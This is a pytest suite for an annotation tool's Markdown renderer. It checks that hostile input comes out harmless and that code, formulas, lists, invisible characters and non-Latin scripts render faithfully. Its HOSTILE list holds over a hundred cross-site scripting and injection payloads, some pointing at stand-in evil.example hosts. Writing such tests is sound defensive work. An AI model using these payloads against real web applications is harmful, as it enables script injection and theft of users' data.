"""Rendering: nothing hostile comes through, and nothing that a rater should judge disappears."""

import html as html_module
from html.parser import HTMLParser

import pytest

from annotate.rendering import _MATH_ATTRIBUTES, MAX_MARKDOWN, render, render_raw

ALLOWED_ATTRIBUTES = {"class", "data-lang", "href", "rel", "start", "tabindex", "title", "xmlns"} | set(
    _MATH_ATTRIBUTES
)
TAG_NAMES = (
    "a blockquote br code del div em h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul math "
    "menclose mfenced mfrac mi mmultiscripts mn mo mover mpadded mprescripts mroot mrow ms mspace msqrt mstyle msub "
    "msubsup msup mtable mtd mtext mtr munder munderover none"
)
ALLOWED_TAGS = set(TAG_NAMES.split())


class Reader(HTMLParser):
    """An independent reading of what we emit: the tags with their attributes, and the text between."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came through: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction came through: {data!r}")

    @property
    def text(self) -> str:
        return "".join(self.words)


def assert_harmless(html: str) -> Reader:
    reader = Reader(html)
    for tag, attributes in reader.tags:
        assert tag in ALLOWED_TAGS, tag
        assert set(attributes) <= ALLOWED_ATTRIBUTES, attributes
        if "href" in attributes:
            assert (attributes["href"] or "").lower().startswith(("http://", "https://", "mailto:")), attributes
            assert attributes["rel"] == "noopener nofollow noreferrer"
        for value in attributes.values():
            assert "<" not in (value or "")
            assert ">" not in (value or "")
    return reader


SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    SCRIPT,
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button form=answer formaction=//evil.example>submit</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<div style=background:url(javascript:alert(1))>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<p hx-get='/admin/' hx-trigger=load>x</p>",
    "<p data-hx-post='/sign-out/' data-hx-trigger=load>x</p>",
    "<p id=comparison>a second one</p>",
    "<a name=location>clobber</a><img name=cookie>",
    "<x onclick=alert(1) tabindex=1 autofocus>x</x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<frameset onload=alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<bdo dir=rtl>reversed</bdo>",
    "<\x01script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/admin/logout/)",
    "[x](\\\\evil.example\\share)",
    "[x](https:evil.example)",
    "[x](https://user:secret@evil.example/)",
    '[x](https://evil.example/"onmouseover=alert(1)//)',
    '[x](https://evil.example/ "title" onmouseover=alert(1))',
    "[x](https://evil.example/'><script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![<script>alert(1)</script>](https://evil.example/x)",
    '![x](https://evil.example/a.png "\'><script>alert(1)</script>")',
    "[![x](x onerror=alert(1))](https://a.example)",
    f"`{SCRIPT}`",
    f"```html\n{SCRIPT}\n```",
    f"```{SCRIPT}\nx\n```",
    '```python" onmouseover="alert(1)\nx = 1\n```',
    '``` x"><img/src=x/onerror=alert(1)>\ny\n```',
    f"    {SCRIPT}",
    f"$\\text{{{SCRIPT}}}$",
    f"$$\\text{{{SCRIPT}}}$$",
    f"\\(\\text{{{SCRIPT}}}\\)",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$\\text{<style><img src=x onerror=alert(1)></style>}$",
    "$\\class{hero}{x}\\cssId{comparison}{y}\\style{color:red}{z}$",
    '$\\color{red" onclick="alert(1)}{x}$',
    '$\\hspace{1em" onclick="alert(1)}x$',
    '$\\begin{array}{c" onclick="alert(1)}x\\end{array}$',
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$a<script>alert(1)</script>b$",
    f"| a |\n|---|\n| {SCRIPT} |",
    f"# {SCRIPT}",
    f"- {SCRIPT}",
    f"> {SCRIPT}",
    f"**{SCRIPT}**",
    f"~~{SCRIPT}~~",
    "{{ settings.SECRET_KEY }} {% debug %}",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless_markup(text: str) -> None:
    assert_harmless(render(text).html)
    assert_harmless(render_raw(text).html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_harmless_after_other_markup(text: str) -> None:
    assert_harmless(render(f"$x$ *a* `b`\n\n{text}\n\n```python\n{text}\n```\n\n| {text} |\n|---|\n").html)


@pytest.mark.parametrize(
    "text",
    [
        SCRIPT,
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](/admin/)",
        "![alt](https://a.example/b.png)",
    ],
)
def test_what_is_refused_is_shown_as_text_instead_of_vanishing(text: str) -> None:
    words = assert_harmless(render(text).html).text
    for part in ("alert(1)", "/admin/", "https://a.example/b.png"):
        assert (part in text) == (part in words)


def test_raw_shows_the_text_exactly() -> None:
    text = "  # not *rendered*\r\n\t<b>&amp;\n"
    assert Reader(render_raw(text).html).text == text


def test_code_keeps_its_indentation_blank_lines_and_tabs() -> None:
    code = "\n\ndef f(x):\n    if x:\n\treturn {\n        'a':  1,\n    }\n\n"
    for language in ("python", "", "no-such-language"):
        assert Reader(render(f"```{language}\n{code}```").html).text.strip("\n") == code.strip("\n")
    assert Reader(render("```python\n" + code + "```").html).text.startswith(code)


def test_code_of_a_known_language_is_coloured_by_classes_only() -> None:
    html = render("```python\nimport os\n```").html
    assert '<span class="kn">import</span>' in html
    assert 'data-lang="python"' in html
    assert "style" not in html


def test_code_beyond_the_cap_is_shown_without_colours() -> None:
    html = render("```python\n" + "import os\n" * 5_001 + "```").html  # 5,001 lines of 10 characters
    assert "<span" not in html
    assert html.count("import os") == 5_001


def test_a_list_sixty_levels_deep_loses_no_text() -> None:
    # Every level takes two of the parser's 100, so a list of 60 does not fit: it must be Raw, not cut off.
    text = "\n".join("  " * level + f"- item {level}" for level in range(60))
    words = Reader(render(text).html).text
    assert all(f"item {level}" in words for level in range(60))


def test_a_list_forty_levels_deep_is_rendered_whole() -> None:
    text = "\n".join("  " * level + f"- item {level}" for level in range(40))
    result = render(text)
    assert result.mode == "markdown"
    assert result.html.count("<li>") == 40
    assert all(f"item {level}" in result.html for level in range(40))


@pytest.mark.parametrize("text", ["> " * 150 + "the end", "- " * 150 + "the end", "1. " * 150 + "the end"])
def test_what_is_nested_beyond_the_parser_is_raw_and_whole(text: str) -> None:
    result = render(text)
    assert result.mode == "raw"
    assert "the end" in result.html


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "![" * 50_000,
        "[x](" * 20_000,
        "_a" * 30_000,
        "$a " * 30_000,
        "<a href=" * 20_000,
        "[a]: https://x.example/" + "a" * 9_000 + "\n\n" + "[a] " * 9_000,  # 80 MB of addresses
    ],
)
def test_pathological_markup_falls_back_to_raw_and_says_so(text: str) -> None:
    result = render(text)
    assert result.mode == "raw"
    assert "intricate" in result.note
    assert html_module.unescape(result.html) == f'<pre class="raw">{text}</pre>'


def test_a_text_beyond_the_cap_is_raw_and_says_so() -> None:
    assert render("x" * MAX_MARKDOWN).mode == "markdown"
    result = render("x" * (MAX_MARKDOWN + 1))
    assert result.mode == "raw"
    assert f"{MAX_MARKDOWN:,}" in result.note


@pytest.mark.parametrize(
    "text", [r"$\frac{1}{2}$", r"\(\frac{1}{2}\)", r"inline $$\frac{1}{2}$$ display", "$$\n\\frac{1}{2}\n$$"]
)
def test_formulas_become_mathml(text: str) -> None:
    html = render(text).html
    assert "<mfrac><mrow><mn>1</mn></mrow><mrow><mn>2</mn></mrow></mfrac>" in html
    assert "$" not in html


def test_a_bracketed_display_formula_is_set_as_a_block() -> None:
    assert 'display="block"' in render("so\n\\[\nx^2\n\\]\n").html


@pytest.mark.parametrize(
    "formula", [r"\frac{1}", r"\left( x", r"\begin{matrix} 1", "x" * 4_001, "{" * 1_900 + "}" * 1_900]
)
def test_a_formula_that_cannot_be_set_is_shown_as_its_source(formula: str) -> None:
    reader = Reader(render(f"${formula}$").html)
    assert formula in reader.text or "math" in [tag for tag, _ in reader.tags]


def test_money_is_not_mathematics() -> None:
    assert Reader(render("It costs $5 and then $6.").html).text.strip() == "It costs $5 and then $6."


def test_a_formula_cannot_hide_its_content() -> None:
    html = render(r"$\color{white}{secret} \phantom{ghost}$").html
    assert "mathcolor" not in html
    assert "mphantom" not in html


def test_tables_scroll_in_their_own_box_and_can_be_reached_by_keyboard() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |\n").html
    assert html.startswith('<div class="table-scroll" tabindex="0"><table>')
    assert '<td>1</td>\n<td class="right">2</td>' in html


def test_headings_stand_below_those_of_the_page() -> None:
    html = render("# one\n\n## two\n\n###### six\n").html
    assert "<h3>one</h3>" in html
    assert "<h4>two</h4>" in html
    assert "<h6>six</h6>" in html


def test_line_breaks_stay_where_the_writer_put_them() -> None:
    assert "<br>" in render("roses are red\nviolets are blue").html


def test_absolute_links_work_and_tell_the_target_nothing() -> None:
    html = render("[a](https://example.org/x?y=1#z) <mailto:a@example.org>").html
    assert 'href="https://example.org/x?y=1#z"' in html
    assert html.count('rel="noopener nofollow noreferrer"') == 2


@pytest.mark.parametrize(
    ("character", "name"),
    [
        ("\u202e", "RIGHT-TO-LEFT OVERRIDE"),
        ("\u2066", "LEFT-TO-RIGHT ISOLATE"),
        ("\u200b", "ZERO WIDTH SPACE"),
        ("\ufeff", "ZERO WIDTH NO-BREAK SPACE"),
        ("\u00ad", "SOFT HYPHEN"),
        ("\U000e0041", "TAG LATIN CAPITAL LETTER A"),
        ("\u200d", "ZERO WIDTH JOINER"),
    ],
)
@pytest.mark.parametrize("frame", ["a{}b", "`a{}b`", "```\na{}b\n```", "# a{}b", "$a{}b$", "| a{}b |\n|---|"])
def test_invisible_characters_are_marked_by_name_wherever_they_stand(character: str, name: str, frame: str) -> None:
    html = render(frame.format(character)).html
    assert character not in html
    assert f'<span class="invisible" title="{name}">U+{ord(character):04X}</span>' in html
    assert_harmless(html)


def test_marks_that_mixed_scripts_need_are_kept_and_marked() -> None:
    html = render("\u05d0\u200f!").html
    assert "U+200F</span>\u200f" in html


@pytest.mark.parametrize(
    "text",
    [
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian: the non-joiner is spelling
        "\u0915\u094d\u200d\u0937",  # Devanagari: the joiner is spelling
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",  # a family, one emoji of three
        "\u65e5\u672c\u8a9e\u306e\u6587\u7ae0\u3002\u4e2d\u6587\uff0c\ud55c\uad6d\uc5b4",
        "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    ],
)
def test_other_scripts_come_through_unchanged(text: str) -> None:
    assert Reader(render(text).html).text.strip() == text


def test_rendering_is_a_function_of_the_text_alone() -> None:
    text = "# a\n\n```python\nx\n```\n\n$x$ | \u202e"
    assert render(text) == render(text)
